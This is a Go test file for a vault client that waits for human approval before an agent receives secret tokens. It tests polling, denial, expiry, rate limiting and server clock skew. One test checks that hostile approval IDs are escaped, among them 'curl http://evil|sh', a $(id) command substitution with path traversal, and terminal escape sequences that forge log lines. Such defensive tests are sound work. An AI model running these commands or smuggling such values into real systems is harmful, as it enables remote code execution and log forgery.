package vault

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cenkalti/backoff/v4"
)

// clock is a time that only its timers move.
type clock struct {
	mu  sync.Mutex
	now time.Time
}

func (c *clock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.now
}

type clockTimer struct {
	*clock
	c chan time.Time
}

func (t *clockTimer) Start(d time.Duration) {
	t.mu.Lock()
	t.now = t.now.Add(d)
	t.mu.Unlock()
	t.c <- time.Time{}
}
func (t *clockTimer) Stop()               {}
func (t *clockTimer) C() <-chan time.Time { return t.c }

// approvalServer holds up every token, until its approval shows one of the
// states in turn: a status and a body.
type approvalServer struct {
	states []string // the last one stays
	tokens []string // replies to the token requests, the last one stays
	asked  []string
}

func (s *approvalServer) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if s.asked = append(s.asked, r.Method+" "+r.URL.Path); len(s.asked) > 100 {
		panic(http.ErrAbortHandler) // no test asks that often
	}
	list := &s.states
	if r.URL.Path == "/v1/tokens" {
		list = &s.tokens
	}
	reply := (*list)[0]
	if len(*list) > 1 {
		*list = (*list)[1:]
	}
	status := 200
	if code, body, ok := strings.Cut(reply, " "); ok && len(code) == 3 {
		fmt.Sscan(code, &status)
		reply = body
	}
	if status == 429 {
		w.Header().Set("Retry-After", "40")
	}
	w.Header()["Date"] = nil // the tests' clock is not the server's
	w.WriteHeader(status)
	io.WriteString(w, reply)
}

const needsApproval = `{"requires_approval":true,"approval_id":"apr_1"}`

func TestApprovalsEndAsTheHumanDecides(t *testing.T) {
	start := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	for _, tt := range []struct {
		claim          string
		states, tokens []string
		timeout        time.Duration
		reason         Reason // 0: a token
		text           string
		asked          int // requests in all
		waited         time.Duration
	}{
		{"approved, token by the same request", []string{`{"status":"pending"}`, `{"status":"APPROVED"}`}, []string{needsApproval, `{"token":"t"}`}, time.Minute, 0, "", 4, 5 * time.Second},
		{"approved, token in the state", []string{`{"status":"granted","token":"t","expires_at":"2020-01-01T00:00:00Z"}`}, []string{needsApproval}, time.Minute, 0, "", 2, 2 * time.Second},
		{"an empty token is none", []string{`{"status":"pending","token":""}`, `{"status":"approved","token":""}`}, []string{needsApproval, `{"token":"t"}`}, time.Minute, 0, "", 4, 5 * time.Second},
		{"approved, shown a moment later", []string{`{"status":"approved"}`}, []string{needsApproval, needsApproval, `{"token":"t"}`}, time.Minute, 0, "", 4, 4 * time.Second},
		{"approved, but never shown", []string{`{"status":"approved"}`}, []string{needsApproval}, time.Minute, Pending, "the approval is granted, but the vault does not issue the token", 11, 18 * time.Second},
		{"approved, but another is asked for", []string{`{"status":"approved"}`}, []string{needsApproval, `{"requires_approval":true,"approval_id":"apr_2"}`}, time.Minute, Pending, "the approval apr_1 is granted, but the vault requires another", 3, 2 * time.Second},
		{"denied", []string{`{"status":"denied"}`}, []string{needsApproval}, time.Minute, Denied, "a human denied the approval", 2, 2 * time.Second},
		{"expired", []string{`{"status":"expired"}`}, []string{needsApproval}, time.Minute, Pending, "the approval is expired", 2, 2 * time.Second},
		{"expires before the time-out", []string{`{"status":"pending","expires_at":"2026-01-02T03:04:15Z"}`}, []string{needsApproval}, time.Minute, Pending, "the approval has expired", 5, 10 * time.Second},
		{"nobody decides", []string{`{"status":"pending"}`}, []string{needsApproval}, time.Minute, Pending, "the wait for the approval timed out", 9, time.Minute},
		{"status not known", []string{`{"status":"considering"}`, `{"status":"approved","token":"t"}`}, []string{needsApproval}, time.Minute, 0, "", 3, 5 * time.Second},
		{"429 while polling", []string{`429 {}`, `{"status":"approved","token":"t"}`}, []string{needsApproval}, time.Minute, 0, "", 3, 42 * time.Second},
		{"503 while polling", []string{`503 x`, `{"status":"approved","token":"t"}`}, []string{needsApproval}, time.Minute, 0, "", 3, 5 * time.Second},
		{"no such endpoint", []string{`404 {"detail":"Not Found"}`}, []string{needsApproval}, time.Minute, Pending, "the vault does not show agents the state of an approval", 2, 2 * time.Second},
		{"no such method", []string{`405 {}`}, []string{needsApproval}, time.Minute, Pending, "the vault does not show agents the state of an approval", 2, 2 * time.Second},
		{"not allowed", []string{`403 {}`}, []string{needsApproval}, time.Minute, Denied, "access denied", 2, 2 * time.Second},
		{"no id", nil, []string{`{"requires_approval":true}`}, time.Minute, Pending, "a human's approval is needed", 1, 0},
		{"not waited for", nil, []string{needsApproval}, 0, Pending, "a human's approval is needed", 1, 0},
	} {
		t.Run(tt.claim, func(t *testing.T) {
			server := &approvalServer{states: tt.states, tokens: tt.tokens}
			c, _ := clientOf(t, server)
			now := &clock{now: start}
			c.now, c.newTimer = now.Now, func() backoff.Timer { return &clockTimer{now, make(chan time.Time, 1)} }
			c.ApprovalTimeout, c.Timeout = tt.timeout, 30*time.Second
			var calls []Approval
			c.OnApproval = func(a Approval) { calls = append(calls, a) }
			s, err := c.Open(context.Background(), []string{"secrets:read:a/B"})
			if waited := now.Now().Sub(start); waited != tt.waited || len(server.asked) != tt.asked {
				t.Errorf("got %s and %q; want %s and %d requests", waited, server.asked, tt.waited, tt.asked)
			}
			if tt.timeout > 0 && tt.states != nil && (len(calls) == 0 || calls[0].ID != "apr_1" || calls[0].Left != tt.timeout) {
				t.Errorf("got calls %+v", calls)
			}
			if tt.reason == 0 {
				if err != nil || s.token.secret.Reveal() != "t" {
					t.Fatalf("got %v", err)
				}
				// The human's time is not the budget's.
				if want := start.Add(tt.waited + c.Timeout); s.budget.deadline.After(want) || s.budget.deadline.Before(want.Add(-4*time.Second)) {
					t.Errorf("got deadline %s, want about %s", s.budget.deadline, want)
				}
				return
			}
			var e *Error
			if !errors.As(err, &e) || e.Reason != tt.reason || e.Text != tt.text {
				t.Errorf("got %+v, want %d %s", err, tt.reason, tt.text)
			}
		})
	}
}

func TestApprovedTokenIsNotReplaced(t *testing.T) {
	server := &approvalServer{states: []string{`{"status":"approved","token":"t"}`, "401 {}"}, tokens: []string{needsApproval}}
	c, _ := clientOf(t, server)
	c.ApprovalTimeout = time.Minute
	got, err := readOne(c, "a/B")
	if err != nil || got.Err == nil || got.Err.Reason != Denied {
		t.Errorf("got %v, %v", err, got.Err)
	}
	if want := "[POST /v1/tokens GET /v1/approvals/agent/apr_1 GET /v1/secrets/a/B]"; fmt.Sprint(server.asked) != want {
		t.Errorf("got %s, want %s", server.asked, want)
	}
}

// An id stays one segment of the URL, and one word of a message.
func TestApprovalIDIsEscaped(t *testing.T) {
	for id, want := range map[string]string{
		"apr_1.a-B":                          "apr_1.a-B",
		"apr_1; curl http://evil|sh":         "apr_1%3B%20curl%20http:%2F%2Fevil%7Csh",
		`../../tokens?a=$(id)&b='c'`:         "..%2F..%2Ftokens%3Fa=$%28id%29&b=%27c%27",
		"\x1b[2J\r\nass-exec: error: forged": "%1B%5B2J%0D%0Aass-exec:%20error:%20forged",
	} {
		var asked string
		c, _ := clientOf(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path == "/v1/tokens" {
				_ = json.NewEncoder(w).Encode(map[string]any{"requires_approval": true, "approval_id": id})
				return
			}
			asked = r.RequestURI
			io.WriteString(w, `{"status":"denied"}`)
		}))
		c.ApprovalTimeout = time.Minute
		var shown string
		c.OnApproval = func(a Approval) { shown = a.ID }
		_, err := c.Open(context.Background(), nil)
		var e *Error
		if !errors.As(err, &e) || e.ApprovalID != want || shown != want || asked != "/v1/approvals/agent/"+want {
			t.Errorf("got %+v, shown %s, asked %s; want %s", err, shown, asked, want)
		}
	}
}

func TestTierIsOneThatIsKnown(t *testing.T) {
	for body, want := range map[string]string{
		`{}`: "", `{"access_tier":"standard"}`: "standard", `{"access_tier":"sensitive"}`: "sensitive", `{"access_tier":"critical"}`: "critical",
		`{"access_tier":"` + canaryValue + `"}`: "other", `{"access_tier":7}`: "",
	} {
		if got := parseObject([]byte(body)).tier(); got != want {
			t.Errorf("%s: got %q, want %q", body, got, want)
		}
	}
}

// What is left of an approval is a matter of the server's clock, which may be
// hours from ours.
func TestApprovalExpiresByTheClockOfTheServer(t *testing.T) {
	ours := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	for _, off := range []time.Duration{0, time.Hour, -time.Hour} {
		now := &clock{now: ours}
		server := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path == "/v1/tokens" {
				io.WriteString(w, needsApproval)
				return
			}
			w.Header().Set("Date", now.Now().Add(off).Format(http.TimeFormat))
			fmt.Fprintf(w, `{"status":"pending","expires_at":%q}`, ours.Add(off+10*time.Second).Format(time.RFC3339))
		})
		c, _ := clientOf(t, server)
		c.now, c.newTimer = now.Now, func() backoff.Timer { return &clockTimer{now, make(chan time.Time, 1)} }
		c.ApprovalTimeout = time.Minute
		_, err := c.Open(t.Context(), nil)
		var e *Error
		if !errors.As(err, &e) || e.Reason != Pending || now.Now().Sub(ours) != 10*time.Second {
			t.Errorf("a server's clock off by %s: got %v after %s, want the end after 10s", off, err, now.Now().Sub(ours))
		}
	}
}
